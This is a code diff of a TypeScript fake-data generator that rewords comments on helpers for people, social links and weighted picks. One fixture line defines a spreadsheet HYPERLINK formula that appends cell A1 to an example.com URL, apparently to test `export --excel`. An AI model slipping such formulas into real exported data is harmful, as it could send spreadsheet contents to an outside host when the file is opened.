@@ -32,7 +32,7 @@ const towns = "Innsbruck, Austria|Boulder, CO|Bergen|Zürich|Leeds, UK|São Paul
 const mottos = "Slow is smooth|Carpe diem, carpe coffee|Leave it better|One more bend…".split("|");
 const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linkedin".split("|");
 
-/** One introduction is a spreadsheet formula, to demonstrate `export --excel`. */
+/** A spreadsheet formula as an introduction, to demonstrate `export --excel`. */
 const formula = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
 
 export function createPerson(seed: number, index: number): Person {
@@ -70,19 +70,17 @@ function createSocials(random: RandomStream, handle: string): Record<string, str
   return Object.fromEntries(names.map((name) => [name, `https://${name}.example.com/${handle}`]));
 }
 
-/** Returns a host as listed in orders, analytics and assignments. */
 export function toHost({ profile }: Person): Host {
   const { id, username, first_name, last_name, profile_photo } = profile;
   return { id, username, first_name, last_name, profile_photo };
 }
 
-/** Returns a host as listed in library files. */
 export function toContentHost({ id, username, first_name, last_name }: Host): ContentItem["host"] {
   const name = [first_name, last_name].filter((part) => part !== null).join(" ");
   return { id, username, name: name === "" ? null : name };
 }
 
-/** Repeats each item according to its weight, for weighted random picks. */
+/** Repeats each item according to its weight, to allow weighted random picks. */
 export function repeatByWeight<T extends { weight: number }>(items: readonly T[]): T[] {
   return items.flatMap((item) => Array.from({ length: item.weight }, () => item));
 }
